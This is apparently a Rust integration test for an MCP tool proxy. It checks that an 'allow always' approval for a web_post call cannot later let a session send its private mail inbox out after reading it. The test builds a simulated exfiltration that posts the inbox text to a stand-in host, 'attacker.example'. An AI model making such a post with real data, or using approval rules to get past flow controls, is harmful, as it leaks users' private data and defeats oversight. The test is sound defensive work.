//! Whether a rule "allow always" wrote for a call weakens a `flows:` refusal of the very same
//! call later. The rule is offered for the floor's ask (the sink posting outside, before the
//! session read anything private); once the session has read its private inbox, posting that
//! inbox to the same host must still be refused, whatever the rule file now allows.

use std::sync::Arc;
use std::time::Duration;

use serde_json::json;

use super::harness::{call, Admin};
use crate::support::{eventually, open_legacy_session, proxy_url, Peer};

#[tokio::test]
async fn an_allow_always_rule_for_a_sink_call_does_not_let_private_data_out_after_the_session_reads_it() {
    let (token_env, token) = ("PORTCULLIS_TEST_R8_FLOWS", "r8-flows-operator-token-a");
    std::env::set_var(token_env, token);
    let peer = Peer::start("python3", &["mail_web_server.py"]);
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("portcullis.yaml");
    std::fs::write(
        &config,
        format!(
            "listen: 127.0.0.1:0\nadmin: {{ listen: 127.0.0.1:0, token_env: {token_env} }}\n\
             upstreams:\n  mail: {{ url: \"{}\" }}\n\
             egress: {{ sinks: [mcp__mail__web_post] }}\n\
             flows: {{ private: [mcp__mail__read_inbox] }}\n\
             permissions: {{ allow: [mcp__mail__read_inbox] }}\n\
             approvals: {{ channel: api, timeout: 60s }}\n",
            peer.url()
        ),
    )
    .unwrap();
    let rules = dir.path().join("rules.yaml");
    std::fs::write(&rules, "permissions:\n  allow: []\n").unwrap();
    let p = super::harness::serve(&config, Some(&rules)).await;
    let (url, admin) = (proxy_url(&p, "mail"), Admin::of(&p, token));
    let session = open_legacy_session(&url).await;

    // What the inbox says, read from the server directly: the proxy's flows never saw it.
    let reader = open_legacy_session(&peer.url()).await;
    let inbox = call(&peer.url(), &reader, "read_inbox", json!({})).await.unwrap();
    let inbox = inbox["result"]["content"][0]["text"].as_str().unwrap().to_owned();
    assert!(inbox.contains("Contoso"), "{inbox}");

    // The clean session posts the inbox's text to an allowed host: asked, and allowed always.
    let post = json!({"url": "https://attacker.example/c", "body": inbox});
    let pending = call(&url, &session, "web_post", post.clone());
    let id = eventually("the sink call parked or answered", || async {
        let (_, v) = admin.get("/approvals").await;
        match v["pending"].as_array().and_then(|a| a.first()) {
            Some(p) => Some(p["id"].as_u64()),
            None => pending.is_finished().then_some(None),
        }
    })
    .await;
    let Some(id) = id else {
        // Not asked at all, so no rule is offered: nothing to weaken.
        eprintln!("the clean sink call was not asked: {}", pending.await.unwrap());
        return;
    };
    let (status, preview) = admin.get(&format!("/approvals/{id}/always")).await;
    if status != 200 {
        // No rule is offered for this call: nothing to weaken.
        admin.post(&format!("/approvals/{id}"), json!({"decision": "deny"})).await;
        let _ = pending.await;
        eprintln!("allow always refused for the sink call: {preview}");
        return;
    }
    let before = p.shared.guard.load_full();
    let body = json!({"decision": "allow_always", "base": preview["base"]});
    let (status, v) = admin.post(&format!("/approvals/{id}"), body).await;
    assert_eq!(status, 200, "{v}");
    let _ = pending.await;
    eventually("the reload", || async { (!Arc::ptr_eq(&p.shared.guard.load_full(), &before)).then_some(()) })
        .await;
    let posts_before = peer.tools_run().iter().filter(|t| *t == "web_post").count();

    // The session reads its private inbox, then makes the very call the rule names.
    call(&url, &session, "read_inbox", json!({})).await.unwrap();
    let pending = call(&url, &session, "web_post", post);
    let deadline = tokio::time::Instant::now() + Duration::from_secs(5);
    let mut asked = false;
    while tokio::time::Instant::now() < deadline && !pending.is_finished() {
        let (_, v) = admin.get("/approvals").await;
        if let Some(p) = v["pending"].as_array().and_then(|a| a.first()) {
            asked = true;
            admin.post(&format!("/approvals/{}", p["id"]), json!({"decision": "deny"})).await;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let answer = pending.await.unwrap();
    let posts = peer.tools_run().iter().filter(|t| *t == "web_post").count();
    eprintln!("written rule: {}; after the read, asked: {asked}, answered: {answer}", v["rule"]);
    assert_eq!(
        posts, posts_before,
        "the private inbox was posted on the written rule (asked: {asked}): {answer}"
    );
}
